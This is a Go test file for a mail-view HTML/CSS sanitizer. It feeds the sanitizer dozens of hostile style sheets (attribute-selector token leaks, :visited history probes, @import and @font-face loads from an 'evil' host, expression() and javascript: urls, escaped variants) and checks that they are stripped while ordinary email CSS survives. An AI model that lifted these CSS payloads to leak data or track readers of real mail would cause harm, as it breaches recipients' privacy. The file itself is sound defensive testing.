package mailview

import (
	"strings"
	"testing"
)

// sheetOf returns the style sheet Sanitize wrote for in: the text of the
// <style> element it starts with, or "".
func sheetOf(t *testing.T, in string, remote bool) (sheet, body string, blocked bool) {
	t.Helper()
	out, blocked := Sanitize(in, remote)
	if reason := unsafeReason(out, remote); reason != "" {
		t.Errorf("Sanitize(%q, %v) = %q: %s", in, remote, out, reason)
	}
	rest, ok := strings.CutPrefix(out, "<style>")
	if !ok {
		return "", out, blocked
	}
	sheet, body, _ = strings.Cut(rest, "</style>\n")
	return sheet, body, blocked
}

// TestSheetAttacks gives each way a style sheet can leak, probe the
// reader, load something or leave its place, and checks that it goes
// while the harmless rules around it stay.
func TestSheetAttacks(t *testing.T) {
	tests := []struct {
		name    string
		css     string
		remote  bool
		want    string // the whole sheet kept
		blocked bool
	}{
		// Exfiltration by attribute selectors, however nested or escaped.
		{"attribute selector", `a[href^="https://x/?token=a"]{color:red} p{color:blue}`, false, "p{color: blue}", false},
		{"attribute selector with url", `a[href^="https://x/?t=a"]{background:url(http://evil/a)}`, true, "", false},
		{"attribute selector alone", `[data-x]{color:red}`, false, "", false},
		{"attribute in :not", `p:not([x]){color:red}`, false, "", false},
		{"attribute in :is", `:is(a[x], b){color:red}`, false, "", false},
		{"escaped bracket", `a\[href{color:red}`, false, "", false},
		{"one bad selector of a list", `a[x], b, c:visited{color:red}`, false, "b{color: red}", false},
		{"input value", `input[value^=s]{background-image:url(http://evil/s)}`, true, "", false},
		// History.
		{":visited", `a:visited{color:red}`, false, "", false},
		{":visited escaped", `a:vi\73ited{color:red}`, false, "", false},
		{":visited in :not", `a:not(:visited){color:red}`, false, "", false},
		{":has", `body:has(a){background:url(http://evil/has)}`, true, "", false},
		// Network: imports, fonts, url().
		{"@import", `@import url(http://evil/a.css); p{color:red}`, false, "p{color: red}", false},
		{"@import string", `@import 'http://evil/a.css' screen;`, false, "", false},
		{"@import escaped", `@\69mport url(http://evil/a.css);`, false, "", false},
		{"@import upper case", `@IMPORT url(http://evil/a.css);`, false, "", false},
		{"@import in @media", `@media all{@import url(http://evil/a.css); p{color:red}}`, false, "@media all{p{color: red}}", false},
		{"@font-face with unicode-range", `@font-face{font-family:leak;src:url(http://evil/a.woff);unicode-range:U+0061} p{font-family:leak}`, true,
			"p{font-family: leak}", false},
		{"@font-face local", `@font-face{font-family:x;src:local(Arial)}`, false, "", false},
		{"url in a rule", `body{background:url(http://evil/bg.png)}`, false, "", true},
		{"url keeps the colour", `body{background:#fff url(http://evil/bg.png) no-repeat}`, false, "body{background: #fff no-repeat}", true},
		{"url escaped", `p{background:u\72l(http://evil/a)}`, true, "", false},
		{"url with escaped letters", `p{background:\75\72\6c(http://evil/a)}`, true, "", false},
		{"url in another property", `ul{list-style-image:url(http://evil/l)} p{cursor:url(http://evil/c),auto}`, true, "", false},
		{"url in font", `p{font:12px url(http://evil/f)}`, true, "", false},
		{"javascript url", `p{background:url(javascript:alert(1))}`, true, "", false},
		{"relative url", `p{background:url(/logout)}`, true, "", false},
		{"image-set", `p{background-image:image-set('http://evil/a.png' 1x)}`, true, "", false},
		{"var", `:root{--u:url(http://evil/v)} p{background:var(--u)}`, true, "", false},
		{"attr", `p{background-image:attr(data-x url)}`, true, "", false},
		{"data image kept", `p{background-image:url(data:image/png;base64,iVBORw0KGgo=)}`, false,
			`p{background-image: url("data:image/png;base64,iVBORw0KGgo=")}`, false},
		{"data svg", `p{background-image:url(data:image/svg+xml;base64,PHN2Zz4=)}`, false, "", false},
		// Animations and transitions, which can load at any time.
		{"@keyframes", `@keyframes leak{from{background:url(http://evil/k)}} p{animation:leak 1s}`, true, "", false},
		{"@-webkit-keyframes", `@-webkit-keyframes leak{to{color:red}} p{-webkit-animation:leak 1s}`, true, "", false},
		{"transition", `a{transition:color 1s} a:hover{color:red}`, false, "a:hover{color: red}", false},
		// Code.
		{"expression", `p{width:expression(alert(1))}`, false, "", false},
		{"expression escaped", `p{width:e\78pression(alert(1))}`, false, "", false},
		{"behavior", `body{behavior:url(x.htc)}`, true, "", false},
		{"behavior escaped", `body{\62 ehavior:url(x.htc)}`, true, "", false},
		{"-moz-binding", `body{-moz-binding:url(http://evil/x.xml#x)}`, true, "", false},
		// Leaving the frame's flow.
		{"position fixed", `div{position:fixed;top:0;left:0;width:100%}`, false, "div{width: 100%}", false},
		{"position escaped", `div{posit\69on:fixed}`, false, "", false},
		{"position sticky", `div{position:sticky;inset:0;z-index:9}`, false, "", false},
		{"transform", `div{transform:translate(0,-300px)}`, false, "", false},
		// Other at-rules.
		{"@namespace", `@namespace svg url(http://www.w3.org/2000/svg); svg|a{color:red}`, false, "", false},
		{"@charset", `@charset "utf-7"; p{color:red}`, false, "p{color: red}", false},
		{"@supports", `@supports (display:grid){body{color:red}}`, false, "", false},
		{"@layer", `@layer x{body{color:red}}`, false, "", false},
		{"@container", `@container (min-width:1px){p{color:red}}`, false, "", false},
		{"@page", `@page{margin:0}`, false, "", false},
		{"@property", `@property --x{syntax:'<url>';inherits:false}`, false, "", false},
		{"@document", `@-moz-document url-prefix(){p{color:red}}`, false, "", false},
		// Media queries that ask more than width, orientation and scheme.
		{"media resolution", `@media (min-resolution:2dppx){p{color:red}}`, false, "", false},
		{"media hover", `@media (hover:hover){p{color:red}}`, false, "", false},
		{"media range syntax", `@media (width < 600px){p{color:red}}`, false, "", false},
		{"media nested", `@media screen{@media (max-width:1px){p{color:red}}}`, false, "", false},
		{"url in media", `@media (max-width:600px){p{background:url(http://evil/narrow)}}`, true, "", false},
		{"url on hover", `a:hover{background:url(http://evil/hover)}`, true, "", false},
		// Nesting, custom properties, stray markup.
		{"nested rule", `.a{color:blue; [x] &{color:red} .b{color:red}}`, false, ".a{color: blue}", false},
		{"custom property", `:root{--x:red}`, false, "", false},
		{"markup in a string", `p{font-family:"<img src=x onerror=alert(1)>"}`, false, "", false},
		{"comment markers", `<!-- p{color:red} -->`, false, "p{color: red}", false},
		{"comment hiding a name", `p{back/**/ground:red}`, false, "", false},
		{"ie hack", `p{*color:red;_color:blue}`, false, "", false},
		{"long selector", strings.Repeat("p ", 600) + `{color:red}`, false, "", false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			sheet, _, blocked := sheetOf(t, "<style>"+tc.css+"</style><p>x</p>", tc.remote)
			if sheet != tc.want {
				t.Errorf("sheet of %q (remote %v) = %q, want %q", tc.css, tc.remote, sheet, tc.want)
			}
			if blocked != tc.blocked {
				t.Errorf("remoteBlocked for %q = %v, want %v", tc.css, blocked, tc.blocked)
			}
		})
	}
}

// TestSheetKeeps: what mail's style sheets are made of stays, written
// anew.
func TestSheetKeeps(t *testing.T) {
	tests := []struct{ css, want string }{
		{`body,table,td{margin:0;padding:0;font-family:'Helvetica Neue',Arial,sans-serif}`,
			`body, table, td{margin: 0; padding: 0; font-family: 'Helvetica Neue', Arial, sans-serif}`},
		{`@media only screen and (max-width:600px){.col{width:100%!important;display:block!important}}`,
			`@media only screen and (max-width:600px){.col{width: 100% !important; display: block !important}}`},
		{`@media (prefers-color-scheme: dark){body{background-color:#111 ! important;color:#eee}}`,
			`@media (prefers-color-scheme:dark){body{background-color: #111 !important; color: #eee}}`},
		{`@media screen and (orientation:landscape), print{p{color:red}}`,
			`@media screen and (orientation:landscape), print{p{color: red}}`},
		{`.preheader{display:none;max-height:0;overflow:hidden;opacity:0;mso-hide:all}`,
			`.preheader{display: none; max-height: 0; overflow: hidden; opacity: 0}`},
		{`a.button:hover{background-color:#1a82e2}`, `a.button:hover{background-color: #1a82e2}`},
		{`#main > tr td:first-child, li:nth-child(2n+1), p::first-line, p:before{color:RGB(1, 2, 3)}`,
			`#main>tr td:first-child, li:nth-child(2n+1), p::first-line, p:before{color: RGB(1, 2, 3)}`},
		{`u + .body .gmail{color:inherit}`, `u+.body .gmail{color: inherit}`},
		{`.btn{background:linear-gradient(to right,#f00,#00f)}`, `.btn{background: linear-gradient(to right, #f00, #00f)}`},
		// Escapes are resolved before the name or value is judged.
		{`.a{\63olor:\72 ed}`, `.a{color: red}`},
		{`.a{color:red}/* a comment */ .b{color:blue}`, `.a{color: red}.b{color: blue}`},
		// An unclosed sheet keeps what it said.
		{`@media (max-width:600px){.a{color:red`, `@media (max-width:600px){.a{color: red}}`},
	}
	for _, tc := range tests {
		if sheet, _, _ := sheetOf(t, "<style>"+tc.css+"</style><p>x</p>", false); sheet != tc.want {
			t.Errorf("sheet of %q = %q, want %q", tc.css, sheet, tc.want)
		}
	}
}

// TestSheetElements: which <style> elements count, and in what order.
func TestSheetElements(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"head then body", `<html><head><style>.a{color:red}</style></head><body><style>.b{color:blue}</style><p>x</p></body></html>`,
			".a{color: red}.b{color: blue}"},
		{"type not css", `<style type="text/plain">.a{color:red}</style><p>x</p>`, ""},
		{"type css", `<style type="TEXT/CSS">.a{color:red}</style><p>x</p>`, ".a{color: red}"},
		{"media print", `<style media="print">.a{color:red}</style><p>x</p>`, ""},
		{"media screen", `<style media="screen">.a{color:red}</style><p>x</p>`, ".a{color: red}"},
		{"in svg", `<svg><style>.a{color:red}</style></svg><p>x</p>`, ""},
		{"in math", `<math><style>.a{color:red}</style></math><p>x</p>`, ""},
		{"in noscript", `<noscript><style>.a{color:red}</style></noscript><p>x</p>`, ""},
		{"in template", `<template><style>.a{color:red}</style></template><p>x</p>`, ""},
		{"in an unknown element", `<custom-x><style>.a{color:red}</style></custom-x><p>x</p>`, ".a{color: red}"},
		{"end tag in the sheet", `<style>.a{color:red}</style><script>alert(1)</script><style>.b{color:blue}</style><p>x</p>`,
			".a{color: red}.b{color: blue}"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			sheet, body, _ := sheetOf(t, tc.in, false)
			if sheet != tc.want {
				t.Errorf("sheet of %q = %q, want %q", tc.in, sheet, tc.want)
			}
			if strings.Contains(body, "<style") || strings.Contains(body, "alert") {
				t.Errorf("body of %q = %q, want no <style> or script left", tc.in, body)
			}
		})
	}
}

// TestInlineStyleImportant: a style attribute loses its !important, so the
// frame's own style keeps the last word; declarations are read as CSS.
func TestInlineStyleImportant(t *testing.T) {
	tests := []struct{ in, want string }{
		{`color: red !important; font-size: 14px`, "color: red; font-size: 14px"},
		{`\63olor: \72 ed`, "color: red"},
		{`color: red; position: fixed; top: 0`, "color: red"},
		{`font-family: "a;b", serif; color: blue`, "color: blue"},
		{`color: red /* a comment */; margin: 0/**/auto`, "color: red; margin: 0 auto"},
		{`{color: red} color: blue`, ""},
		{`width: 100px; @media x {color: red}; height: 1px`, "width: 100px; height: 1px"},
	}
	for _, tc := range tests {
		if got := (&cleaner{}).style(tc.in); got != tc.want {
			t.Errorf("style(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestSheetSafe checks the second layer on its own, as if the first had
// let something through.
func TestSheetSafe(t *testing.T) {
	kept := []string{
		"",
		"p{color: red}",
		"body, td{margin: 0 !important; font-family: 'Segoe UI', Arial}",
		":where(body){background-color: #fff}:where(a){color: #00f}",
		"@media (max-width:600px){.a{width: 100% !important}.b{display: none}}",
		`p{background-image: url("data:image/png;base64,iVBORw0KGgo=")}`,
		"a:hover{color: red}li:nth-child(2n+1)::before{color: blue}",
	}
	dropped := []string{
		"p{color:red}",
		"p{color: red;}",
		`a[href]{color: red}`,
		"a:visited{color: red}",
		"a:has(b){color: red}",
		"@import url(x);",
		"@font-face{font-family: x}",
		"@media (max-width:600px){@media all{p{color: red}}}",
		`p{background: url(http://x/y)}`,
		`p{background: url("http://x/y"); color: red}</style><script>`,
		`p{color: \72 ed}`,
		"p{color: red /* */}",
		"p{width: expression(alert(1))}",
		"p{position: fixed}x",
		"p{--x: red}",
		"p{color: var(--x)}",
		"p{}",
	}
	for _, remote := range []bool{false, true} {
		for _, s := range kept {
			if !sheetSafe(s, remote) {
				t.Errorf("sheetSafe(%q, %v) = false, want true", s, remote)
			}
		}
		for _, s := range dropped {
			if sheetSafe(s, remote) {
				t.Errorf("sheetSafe(%q, %v) = true, want false", s, remote)
			}
		}
	}
	remoteOnly := []string{
		`p{background: #fff url("https://img.example/a.png") no-repeat}`,
	}
	neverRemote := []string{
		`@media (max-width:600px){p{background: url("https://img.example/a.png")}}`,
		`a:hover{background: url("https://img.example/a.png")}`,
		`p{background: url("https://img.example/a b.png")}`,
		`p{background: url("javascript:alert(1)")}`,
	}
	for _, s := range remoteOnly {
		if sheetSafe(s, false) || !sheetSafe(s, true) {
			t.Errorf("sheetSafe(%q) = %v without and %v with remote content, want false and true", s, sheetSafe(s, false), sheetSafe(s, true))
		}
	}
	for _, s := range neverRemote {
		if sheetSafe(s, true) {
			t.Errorf("sheetSafe(%q, true) = true, want false", s)
		}
	}
}
